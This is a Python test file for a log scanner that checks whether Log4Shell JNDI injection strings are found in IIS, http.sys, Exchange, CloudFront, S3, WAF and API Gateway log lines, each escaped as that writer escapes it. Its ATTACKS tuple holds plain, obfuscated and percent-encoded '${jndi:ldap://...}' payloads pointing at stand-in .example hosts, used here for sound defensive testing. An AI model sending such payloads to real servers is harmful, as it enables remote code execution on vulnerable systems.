"""Writers that no test can run: IIS, http.sys, Exchange, AWS. Lines in the shape that theirs have, with an attack in each part that a
client chooses, escaped as the writer escapes it. Each is found in the field it stands in, and the rest of the line is read."""
import json
import re
import urllib.parse

import cli_case
from cli_case import Case

URL, AGENT, REFERER, HEADER = "url.original", "user_agent.original", "http.request.referrer", "http.request.headers."
HOST, COOKIE, FORWARDED = HEADER + "host", HEADER + "cookie", HEADER + "x-forwarded-for"
ATTACKS = ("${jndi:ldap://%s.example/a}", "${${lower:j}ndi:${lower:l}dap://%s.example/a}", "a \"b\" c\\ ${jndi:ldap://%s.example/a} (d; e)",
           "%%24%%7Bjndi:ldap://%s.example/a%%7d", "\"${jndi:ldap://%s.example/a}\"", "x\t${jndi:ldap://%s.example/a}\u00e9")


def hexes(text):  # AWS load balancers
    return re.sub(r'["\\\x00-\x1f\x7f-\uffff]', lambda m: "".join("\\x%02x" % b for b in m[0].encode()), text)


def percent(text):  # CloudFront; a blank ends nothing there
    return re.sub(r'[\x00-\x20"#%<>\[\\\]^`{|}~\x7f-\uffff]', lambda m: urllib.parse.quote(m[0].encode(), safe=""), text)


def percent_twice(text):  # CloudFront until 2021
    return percent(percent(text))


def plus(text):  # IIS
    return re.sub(r"[\x00-\x20]", "+", text)


def path(text):  # what a client may send as part of a request line
    return re.sub(r'[\x00-\x20\x7f-\uffff]', lambda m: urllib.parse.quote(m[0].encode(), safe=""), text)


def key(text):  # S3
    return urllib.parse.quote(urllib.parse.quote(text, safe="/"), safe="/")


def string(text):
    return json.dumps(text)[1:-1]


def comma(text):  # Exchange's transport
    return '"%s"' % text.replace('"', '""') if re.search('[",]', text) else text


def no_comma(text):  # Exchange's HTTP proxy
    return re.sub("[,\t]", " ", text)


def plain(text):
    return text


class Writer:
    """line holds %(NAME)s for each part of `parts`: NAME -> what an ordinary client sends, the writer's escape, our field. What only
    holds a path or a name is read as such: `told` are the values beside it, and the part that each comes from, if it is one."""

    def __init__(self, form, head, line, parts, **told):
        self.form, self.head, self.line, self.parts, self.told = form, head, line, parts, told

    def text(self, **planted):
        values = {name: escape(planted.get(name, usual)) for name, (usual, escape, _) in self.parts.items()}
        return self.head + (self.line % values) + "\n"


IIS = "#Software: Microsoft Internet Information Services 10.0\r\n#Version: 1.0\r\n#Date: 2021-12-10 14:00:00\r\n#Fields: date time "
IIS_DEFAULT = "s-ip cs-method cs-uri-stem cs-uri-query s-port cs-username c-ip cs(User-Agent) cs(Referer) sc-status sc-substatus sc-win32-status time-taken\r\n"
IIS_ALL = ("s-sitename s-computername s-ip cs-method cs-uri-stem cs-uri-query s-port cs-username c-ip cs-version cs(User-Agent) cs(Cookie) "
           "cs(Referer) cs-host sc-status sc-substatus sc-win32-status sc-bytes cs-bytes time-taken X-Forwarded-For\r\n")
IIS_LINE = "2021-12-10 14:02:07 10.0.0.1 GET %(stem)s %(query)s 443 %(user)s 192.0.2.7 %(agent)s %(referer)s 404 0 2 15\r"
IIS_ALL_LINE = ("2021-12-10 14:02:07 W3SVC1 WEB01 10.0.0.1 GET %(stem)s %(query)s 443 %(user)s 192.0.2.7 HTTP/1.1 %(agent)s %(cookie)s %(referer)s "
                "%(host)s 404 0 2 1234 567 15 %(forwarded)s\r")
IIS_PARTS = {"stem": ("/a/b.aspx", plus, URL), "query": ("id=1", path, URL), "user": ("-", plus, "user.name"),
             "agent": ("Mozilla/5.0 (X11)", plus, AGENT), "referer": ("https://ref.example/?a=b", plus, REFERER)}
IIS_ALL_PARTS = dict(IIS_PARTS, cookie=("a=b; c=d", plus, COOKIE), host=("shop.example", plus, HOST), forwarded=("198.51.100.1, 203.0.113.9", plus, FORWARDED))
HTTP_SYS = "c-ip c-port s-ip s-port cs-version cs-method cs-uri streamid sc-status s-siteid s-reason s-queuename\r\n"
HTTP_SYS_LINE = "2021-12-10 14:02:07 192.0.2.7 12052 10.0.0.1 80 HTTP/1.1 GET %(uri)s - 404 - URL - \r"
PROXY = ("#Software: Microsoft Exchange Server\r\n#Version: 15.01.2375.007\r\n#Log-type: HttpProxy Logs\r\n#Date: 2021-12-10T14:00:00.130Z\r\n"
         "#Fields: DateTime,RequestId,MajorVersion,MinorVersion,BuildVersion,RevisionVersion,ClientRequestId,Protocol,UrlHost,UrlStem,ProtocolAction,"
         "AuthenticationType,IsAuthenticated,AuthenticatedUser,Organization,AnchorMailbox,UserAgent,ClientIpAddress,ServerHostName,HttpStatus,"
         "BackEndStatus,ErrorCode,Method," + ",".join("Latency%d" % i for i in range(45)) + ",UrlQuery,BackEndGenericInfo,GenericInfo,GenericErrors\r\n")
PROXY_LINE = ("2021-12-10T14:02:07.725Z,1-2-3,15,1,2375,7,,Ecp,%(host)s,%(stem)s,,FBA,true,%(user)s,,%(anchor)s,%(agent)s,192.0.2.7,MX01,404,,,GET,"
              + "0," * 45 + "%(query)s,,BeginRequest=2021-12-10T14:02:07.724Z;,\r")
SMTP = "#Software: Microsoft Exchange Server\r\n#Log-type: SMTP Receive Protocol Log\r\n#Fields: date-time,connector-id,session-id,sequence-number,local-endpoint,remote-endpoint,event,data,context\r\n"
TRACKING = ("#Software: Microsoft Exchange Server\r\n#Fields: date-time,client-ip,client-hostname,server-ip,source-context,message-id,recipient-address,"
            "message-subject,sender-address,custom-data\r\n")
ALB_LINE = ('https 2021-12-10T14:02:07.186641Z app/lb/50dc 192.0.2.7:2817 10.0.0.1:80 0.086 0.048 0.037 404 404 0 57 "GET https://shop.example:443%(stem)s HTTP/1.1" '
            '"%(agent)s" ECDHE TLSv1.2 arn:t "Root=1-5" "%(sni)s" "arn:c" 1 2021-12-10T14:02:07.100000Z "waf,forward" "-" "-" "10.0.0.1:80" "404" "-" "-" TID_1')
CLASSIC_LINE = ('2021-12-10T14:02:07.943958Z lb 192.0.2.7:2817 10.0.0.1:80 0.000073 0.001048 0.000057 404 404 0 29 "GET http://shop.example:80%(stem)s HTTP/1.1" '
                '"%(agent)s" - -')
CLOUDFRONT = ("#Version: 1.0\n#Fields: date time x-edge-location sc-bytes c-ip cs-method cs(Host) cs-uri-stem sc-status cs(Referer) cs(User-Agent) cs-uri-query cs(Cookie) "
              "x-edge-result-type x-edge-request-id x-host-header cs-protocol cs-bytes time-taken x-forwarded-for ssl-protocol ssl-cipher "
              "x-edge-response-result-type cs-protocol-version fle-status fle-encrypted-fields c-port time-to-first-byte x-edge-detailed-result-type "
              "sc-content-type sc-content-len sc-range-start sc-range-end\n")
CLOUDFRONT_LINE = "\t".join(("2021-12-10", "14:02:07", "FRA56-P1", "392", "192.0.2.7", "GET", "d1.cloudfront.example", "%(stem)s", "404", "%(referer)s", "%(agent)s",
                             "%(query)s", "%(cookie)s", "Error", "SOX4xwn4XV6Q==", "%(host)s", "https", "23", "0.001", "%(forwarded)s", "TLSv1.3", "AES", "Error",
                             "HTTP/2.0", "-", "-", "11040", "0.001", "Error", "text/html", "78", "-", "-"))


def cloudfront_parts(escape):
    return {"stem": ("/a/b", lambda s: escape(path(s)), URL), "query": ("q=1", lambda s: escape(path(s)), URL), "agent": ("Mozilla/5.0 (X11)", escape, AGENT),
            "referer": ("https://ref.example/", escape, REFERER), "cookie": ("a=b; c=d", escape, COOKIE), "host": ("shop.example", escape, HOST),
            "forwarded": ("198.51.100.1, 203.0.113.9", escape, FORWARDED)}


JSON_PARTS = dict(cloudfront_parts(percent), query=("q=1", lambda s: percent(path(s)), "url.query"))
REALTIME = "\t".join(("1639144927.123", "192.0.2.7", "0.002", "404", "391", "GET", "https", "d1.cloudfront.example", "%(stem)s", "57", "FRA2-C2", "k6W==", "%(host)s",
                      "0.002", "HTTP/2.0", "IPv4", "%(agent)s", "%(referer)s", "%(cookie)s", "%(query)s", "Error", "-", "TLSv1.3", "AES", "Error"))
S3 = "%064x" % 1
S3_LINE = (S3 + ' shop-files [10/Dec/2021:14:02:07 +0000] 192.0.2.7 %(user)s 3E57427F3E000001 REST.GET.OBJECT %(key)s "GET %(stem)s HTTP/1.1" 404 NoSuchKey 283 - 17 - '
           '"%(referer)s" "%(agent)s" - Bs= SigV4 ECDHE-RSA-AES128-GCM-SHA256 AuthHeader shop.example TLSv1.2 - -')
WAF_LINE = ('{"timestamp":1639144927186,"formatVersion":1,"webaclId":"arn:w","terminatingRuleId":"r","terminatingRuleType":"REGULAR","action":"BLOCK",'
            '"httpSourceName":"ALB","ruleGroupList":[],"responseCodeSent":404,"httpRequest":{"clientIp":"192.0.2.7","country":"DE","headers":[{"name":"Host","value":"%(host)s"},'
            '{"name":"User-Agent","value":"%(agent)s"},{"name":"X-Api-Version","value":"%(api)s"}],"uri":"%(stem)s","args":"%(query)s",'
            '"httpVersion":"HTTP/1.1","httpMethod":"GET","requestId":"1"}}')
GATEWAY_LINE = ('{"requestId":"G=","ip":"192.0.2.7","requestTime":"10/Dec/2021:14:02:07 +0000","httpMethod":"GET","path":"%(stem)s","status":"404",'
                '"protocol":"HTTP/1.1","domainName":"shop.example","userAgent":"%(agent)s","user":"%(user)s"}')
GATEWAY_CLF = '192.0.2.7 - %(user)s [10/Dec/2021:14:02:07 +0000]"GET %(stem)s HTTP/1.1" 404 184 4875-2d0f G='

GATEWAY_CSV = '192.0.2.7,%(caller)s,%(user)s,10/Dec/2021:14:02:07 +0000,GET,%(stem)s,HTTP/1.1,404,42,c6af9ac6-7b61-11e6-9a41-93e8deadbeef,G='
GATEWAY_ROUTE = '192.0.2.7,10/Dec/2021:14:02:07 +0000,GET,%(stem)s,HTTP/2.0,404,42,G=,%(agent)s'
GATEWAY_XML = ('<request id="c6af9ac6"> <ip>192.0.2.7</ip> <caller>-</caller> <user>%(user)s</user> <requestTime>10/Dec/2021:14:02:07 +0000</requestTime> '
               '<httpMethod>GET</httpMethod> <path>%(stem)s</path> <status>404</status> <protocol>HTTP/1.1</protocol> <responseLength>42</responseLength> '
               '<domainName>shop.example</domainName> <userAgent>%(agent)s</userAgent> </request>')
IIS_OWN = "192.0.2.7, %(user)s, %(day)s, W3SVC1, WEB01, 10.0.0.1, 46, 321, 7699, 404, 2, GET, %%(stem)s, %%(query)s,\r"
IIS_OWN_PARTS = {"stem": ("/a/b.aspx", plus, URL), "query": ("-", path, URL), "user": ("-", plus, "user.name")}

WRITERS = {
    "IIS": Writer("w3c", IIS + IIS_DEFAULT, IIS_LINE, IIS_PARTS),
    "IIS, every column": Writer("w3c", IIS + IIS_ALL, IIS_ALL_LINE, IIS_ALL_PARTS, domain="shop.example"),
    "a tail of IIS": Writer("w3c", "", IIS_LINE, IIS_PARTS),
    "a tail of IIS, every column": Writer("w3c", "", IIS_ALL_LINE, dict(IIS_ALL_PARTS, forwarded=("198.51.100.1, 203.0.113.9", plus, "column.23")),
                                          domain="shop.example"),
    "IIS's own": Writer("iis", "", IIS_OWN % {"user": "%(user)s", "day": "12/10/2021, 14:02:07"}, IIS_OWN_PARTS),
    "IIS's own of old": Writer("iis", "", IIS_OWN % {"user": "%(user)s", "day": "12/10/21, 14:02:07"}, IIS_OWN_PARTS),
    "IIS's NCSA": Writer("common", "", '192.0.2.7 - %(user)s [10/Dec/2021:06:02:07 -0800] "GET %(stem)s HTTP/1.1" 404 1234\r',
                         {"stem": ("/a/b.aspx", plus, URL), "user": ("DOM\\al", plus, "user.name")}),
    "http.sys": Writer("w3c", IIS + HTTP_SYS, HTTP_SYS_LINE, {"uri": ("/a/b", path, URL)}),
    "a tail of http.sys": Writer("w3c", "", HTTP_SYS_LINE, {"uri": ("/a/b", path, URL)}),
    "Exchange's HTTP proxy": Writer("w3c", PROXY, PROXY_LINE, {"host": ("shop.example", no_comma, HOST), "stem": ("/ecp/a", path, URL), "user": ("DOM\\al", no_comma, "user.name"),
                                    "anchor": ("a@b.example", no_comma, "column.16"), "agent": ("Mozilla/5.0 (KHTML, like Gecko)", no_comma, AGENT), "query": ("?a=b", path, URL)},
                                    domain="shop.example"),
    "Exchange's SMTP": Writer("w3c", SMTP, "2021-12-10T14:02:07.909Z,MX01\\Default,08D,2,10.0.0.1:25,192.0.2.7:56026,<,%(data)s,\r", {"data": ("EHLO h", comma, "smtp.command")}, mail=True),
    "Exchange's tracking": Writer("w3c", TRACKING, "2021-12-10T14:02:07.052Z,192.0.2.7,%(name)s,10.0.0.1,,%(id)s,%(to)s,%(subject)s,%(from)s,\r",
                                  {"name": ("h.example", comma, "source.domain"), "id": ("<a@b>", comma, "email.message_id"), "to": ("a@b;c@d", comma, "email.to.address"),
                                   "subject": ("Hello, you", comma, "email.subject"), "from": ("a@b", comma, "email.from.address")}, mail=True),
    "ALB": Writer("alb", "", ALB_LINE, {"stem": ("/a/b", lambda s: hexes(path(s)), URL), "agent": ("Mozilla/5.0 (X11)", hexes, AGENT), "sni": ("shop.example", hexes, "url.domain")},
                  domain="shop.example"),
    "Classic Load Balancer": Writer("alb", "", CLASSIC_LINE, {"stem": ("/a/b", lambda s: hexes(path(s)), URL), "agent": ("Mozilla/5.0 (X11)", hexes, AGENT)}, domain="shop.example"),
    "CloudFront": Writer("w3c", CLOUDFRONT, CLOUDFRONT_LINE, cloudfront_parts(percent), domain="shop.example"),
    "a tail of CloudFront": Writer("w3c", "", CLOUDFRONT_LINE, cloudfront_parts(percent), domain="shop.example"),
    "CloudFront of old": Writer("w3c", CLOUDFRONT, CLOUDFRONT_LINE, cloudfront_parts(percent_twice), domain="shop.example"),
    "CloudFront as JSON": Writer("json", "", '{"timestamp(ms)":"1639144927000","date":"2021-12-10","time":"14:02:07","c-ip":"192.0.2.7","cs-method":"GET","cs(Host)":"d1.cloudfront.example",'
                                 '"cs-uri-stem":"%(stem)s","sc-status":"404","cs(Referer)":"%(referer)s","cs(User-Agent)":"%(agent)s","cs-uri-query":"%(query)s","cs(Cookie)":"%(cookie)s",'
                                 '"x-host-header":"%(host)s","x-forwarded-for":"%(forwarded)s"}', JSON_PARTS, domain="shop.example"),
    "CloudFront in real time": Writer("w3c", "", REALTIME, {k: v for k, v in cloudfront_parts(percent).items() if k != "forwarded"}, domain="shop.example"),
    "S3": Writer("s3", "", S3_LINE, {"user": ("arn:aws:iam::1:user/al", path, "user.name"), "key": ("a/b", key, "aws.s3access.key"), "stem": ("/shop-files/a/b", path, URL),
                                     "referer": ("https://ref.example/", plain, REFERER), "agent": ("aws-cli/2.1", plain, AGENT)}, domain="shop.example"),
    "WAF": Writer("aws_waf", "", WAF_LINE, {"host": ("shop.example", string, HOST), "agent": ("m", string, AGENT), "api": ("1", string, HEADER + "x-api-version"),
                                            "stem": ("/a/b", lambda s: string(path(s)), URL), "query": ("q=1", lambda s: string(path(s)), "url.query")}, domain="shop.example"),
    "API Gateway": Writer("json", "", GATEWAY_LINE, {"stem": ("/a/b", lambda s: string(path(s)), URL), "agent": ("m", string, AGENT), "user": ("al", string, "user.name")}, domain="shop.example"),
    "API Gateway's CSV": Writer("api_gateway", "", GATEWAY_CSV, {"stem": ("/a/b", path, URL), "caller": ("-", path, "aws.apigateway.caller"), "user": ("al", path, "user.name")}),
    "API Gateway's CSV of an HTTP API": Writer("api_gateway", "", GATEWAY_ROUTE, {"stem": ("/a/b", path, URL), "agent": ("m", plain, "column.9")}),
    "API Gateway's XML": Writer("api_gateway", "", GATEWAY_XML, {"stem": ("/a/b", path, URL), "agent": ("m", plain, AGENT), "user": ("al", path, "user.name")}, domain="shop.example"),
    "earlier Traefik": Writer("combined", "", '192.0.2.7 - %(user)s [10/Dec/2021:14:02:07 +0000] "GET %(stem)s HTTP/1.1" 404 19 "%(referer)s" "%(agent)s" 116 "web@file" "http://10.0.0.1:3001" 1ms',
                                {"stem": ("/a/b", path, URL), "user": ("al", path, "user.name"), "referer": ("https://ref.example/", plain, REFERER), "agent": ("m", plain, AGENT)}),
    "API Gateway's CLF": Writer("common", "", GATEWAY_CLF, {"stem": ("/a/b", path, URL), "user": ("al", path, "user.name")}),
}
DOMAINS = {"host", "sni"}
PATHS = {"stem", "uri"}


class Writers(Case):
    def check(self, writer, event, part):
        self.assertEqual(event["caltrop"]["format"], writer.form)
        self.assertEqual(event["caltrop"]["grade"], "exploit")
        self.assertEqual(event["@timestamp"][:19], "2021-12-10T14:02:07")
        self.assertEqual(event["source"]["ip"], "192.0.2.7")
        if writer.told.get("mail"):
            return
        self.assertEqual(event["http"]["request"]["method"], "GET")
        self.assertEqual(event["http"]["response"]["status_code"], 404)
        if part not in PATHS:
            self.assertEqual(event["url"]["path"], next(usual for name, (usual, _, _) in writer.parts.items() if name in PATHS))
        if part not in DOMAINS and "domain" in writer.told:
            self.assertEqual(event["url"]["domain"], writer.told["domain"])

    def test_an_attack_in_each_part_is_found_where_it_stands(self):
        for name, writer in WRITERS.items():
            self.assertEqual(self.events(self.write("ordinary.log", writer.text().encode()), status=0), [])
            for part, (usual, _, field) in writer.parts.items():
                for n, attack in enumerate(ATTACKS):
                    host = "h%d-%s" % (n, part)
                    attack = attack % host
                    if part in PATHS:
                        attack = "/" + attack
                    text = writer.text(**{part: attack}).encode()
                    with self.subTest(writer=name, part=part, attack=attack, line=text.splitlines()[-1]):
                        events = self.events(self.write("a.log", text), status=1)
                        self.assertEqual({i["host"] for e in events for i in e["caltrop"]["indicators"]}, {host + ".example"})
                        self.assertIn(field, [e["caltrop"]["field"] for e in events])
                        for event in events:
                            self.check(writer, event, part)
                        if n == 0:
                            forced = self.events("--log-format", writer.form, self.path("a.log"), status=1)
                            self.assertEqual([e["event"]["id"] for e in forced], [e["event"]["id"] for e in events])


if __name__ == "__main__":
    cli_case.main()
